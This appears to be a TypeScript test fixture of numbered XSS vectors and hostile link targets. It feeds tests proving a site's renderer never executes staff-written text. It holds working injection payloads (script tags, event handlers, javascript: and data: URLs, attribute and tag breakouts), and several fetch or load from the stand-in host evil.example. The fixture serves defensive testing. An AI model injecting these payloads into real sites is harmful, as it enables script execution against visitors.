// Hostile input for the end-to-end proof that staff-written text never runs (e2e/xss.spec.ts) and
// for the body renderer's table (lib/body/render.test.tsx). Each vector, were it ever parsed as
// markup, followed as a link or evaluated as code, calls alert(), sets window.__xss or asks
// evil.example for something: the browser canary catches all three. Its number is in the payload,
// so a failure names the vector that ran.
//
// Every vector is at most 58 characters, so the same string fits every field staff can write,
// the shortest included (dateline, tag and rubrique names: 60), and none starts or ends with
// white space (fields are trimmed). Each contains letters or digits, so it gives a slug.

/**
 * Where the vector would be dangerous, so the spec can prove its own canary catches it there:
 * parsed as HTML, inside an attribute value (each quoting), or as a URL; "inert" ones need a sink
 * this site does not have (a template engine, a second decoding, a pre-HTML5 parser) and are
 * checked as text only.
 */
export type VectorContext = 'html' | 'attribute"' | "attribute'" | 'attribute' | 'url' | 'inert'

export interface XssVector {
  id: number
  /** What the vector tries. */
  kind: string
  text: string
  context: VectorContext
}

const TAB = '\t'
const NUL = '\u0000'

export const XSS_VECTORS: readonly XssVector[] = [
  { id: 1, kind: 'script tag', text: '<script>alert(1)</script>', context: 'html' },
  { id: 2, kind: 'img onerror', text: '<img src=x onerror=alert(2)>', context: 'html' },
  { id: 3, kind: 'svg onload', text: '<svg onload=alert(3)>', context: 'html' },
  { id: 4, kind: 'body onload', text: '<body onload=alert(4)>', context: 'html' },
  { id: 5, kind: 'details ontoggle', text: '<details open ontoggle=alert(5)>', context: 'html' },
  { id: 6, kind: 'script inside svg', text: '<svg><script>alert(6)</script></svg>', context: 'html' },
  { id: 7, kind: 'MathML namespace confusion (mglyph/style)', text: '<math><mtext><mglyph><style><img src onerror=alert(7)>', context: 'html' },
  { id: 8, kind: 'double-quoted attribute breakout', text: '"><script>alert(8)</script>', context: 'attribute"' },
  { id: 9, kind: 'single-quoted attribute breakout', text: "' autofocus onfocus='alert(9)", context: "attribute'" },
  { id: 10, kind: 'unquoted attribute breakout', text: 'x onmouseover=alert(10) autofocus onfocus=alert(10)', context: 'attribute' },
  { id: 11, kind: '</title> breakout', text: '</title><script>alert(11)</script>', context: 'html' },
  { id: 12, kind: '</script> breakout (JSON-LD, inline data)', text: '</script><script>alert(12)</script>', context: 'html' },
  { id: 13, kind: '</textarea> breakout (admin forms)', text: '</textarea><img src=x onerror=alert(13)>', context: 'html' },
  { id: 14, kind: 'javascript: URL', text: 'javascript:alert(14)', context: 'url' },
  { id: 15, kind: 'javascript: URL, mixed case', text: 'JaVaScRiPt:alert(15)', context: 'url' },
  { id: 16, kind: 'javascript: URL split by a tab', text: `java${TAB}script:alert(16)`, context: 'url' },
  { id: 17, kind: 'javascript: URL, hex entity', text: '&#x6A;avascript:alert(17)', context: 'url' },
  { id: 18, kind: 'javascript: URL, decimal entities and tab entity', text: '&#106;av&#x09;ascript&colon;alert(18)', context: 'url' },
  { id: 19, kind: 'javascript: URL after a control character', text: '\u0001javascript:alert(19)', context: 'url' },
  { id: 20, kind: 'data:text/html URL', text: 'data:text/html,<script>alert(20)</script>', context: 'url' },
  { id: 21, kind: 'data:text/html base64 URL', text: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgyMSk8L3NjcmlwdD4=', context: 'url' },
  { id: 22, kind: 'protocol-relative URL to a foreign host', text: '//evil.example/22', context: 'url' },
  { id: 23, kind: 'javascript: link markup', text: '<a href="javascript:alert(23)">clic</a>', context: 'html' },
  { id: 24, kind: 'CSS url(javascript:)', text: '<div style="background:url(javascript:alert(24))">', context: 'html' },
  { id: 25, kind: 'CSS expression()', text: '<p style="width:expression(alert(25))">', context: 'html' },
  { id: 26, kind: '<base href> hijack', text: '<base href="//evil.example/26/">', context: 'html' },
  { id: 27, kind: '<meta http-equiv=refresh>', text: '<meta http-equiv=refresh content=0;url=//evil.example/27>', context: 'html' },
  { id: 28, kind: '<form action=javascript:>', text: '<form action=javascript:alert(28)><button>go', context: 'html' },
  { id: 29, kind: '<iframe srcdoc>', text: '<iframe srcdoc="<script>alert(29)</script>">', context: 'html' },
  { id: 30, kind: '<object data=javascript:>', text: '<object data=javascript:alert(30)>', context: 'html' },
  { id: 31, kind: '<embed src=javascript:>', text: '<embed src=javascript:alert(31)>', context: 'html' },
  { id: 32, kind: 'template injection', text: "{{constructor.constructor('alert(32)')()}}", context: 'inert' },
  { id: 33, kind: 'template literal', text: '${alert(33)}`;alert(33);`', context: 'inert' },
  { id: 34, kind: 'U+2028 / U+2029 line separators', text: 'a\u2028b\u2029</script><script>alert(34)</script>', context: 'html' },
  { id: 35, kind: 'null bytes inside a tag name', text: `<scr${NUL}ipt>alert(35)</scr${NUL}ipt>`, context: 'inert' },
  { id: 36, kind: 'SVG xlink:href', text: '<svg><a xlink:href=javascript:alert(36)><text>x', context: 'html' },
  { id: 37, kind: '<noscript> parsing differential', text: '<noscript><i title="</noscript><svg onload=alert(37)>">', context: 'html' },
  { id: 38, kind: 'event handler setting the canary', text: '<img src=x onerror=window.__xss=38>', context: 'html' },
  { id: 39, kind: 'event handler calling a foreign host', text: "<img src=x onerror=fetch('//evil.example/39')>", context: 'html' },
  { id: 40, kind: 'CSS @import from a foreign host', text: "<style>@import'//evil.example/40';</style>", context: 'html' },
  { id: 41, kind: 'stylesheet from a foreign host', text: '<link rel=stylesheet href=//evil.example/41>', context: 'html' },
  { id: 42, kind: 'comment breakout', text: '<!--<img src="--><img src=x onerror=alert(42)>', context: 'html' },
  { id: 43, kind: 'already escaped (a double decode would run it)', text: '&lt;script&gt;alert(43)&lt;/script&gt;', context: 'inert' },
  { id: 44, kind: 'CDATA breakout (RSS)', text: ']]><script>alert(44)</script><![CDATA[', context: 'html' },
  { id: 45, kind: 'percent-encoded (URLs, slugs)', text: '%3Cscript%3Ealert(45)%3C%2Fscript%3E', context: 'inert' },
  { id: 46, kind: 'mixed-case tag', text: '<ScRiPt>alert(46)</sCrIpT>', context: 'html' },
]

/** Hostile link targets beyond the vectors themselves: what safeHref must refuse. */
export const HOSTILE_HREFS: readonly string[] = [
  'javascript:alert(101)',
  ' javascript:alert(102)',
  'JAVASCRIPT:alert(103)',
  'java\nscript:alert(104)',
  'java\u0000script:alert(105)',
  '\u0001javascript:alert(106)',
  'javascript&colon;alert(107)',
  'vbscript:msgbox(108)',
  'data:text/html,<script>alert(109)</script>',
  'data:image/svg+xml,<svg onload=alert(110)>',
  '//evil.example/111',
  '/\\evil.example/112',
  '\\\\evil.example/113',
]
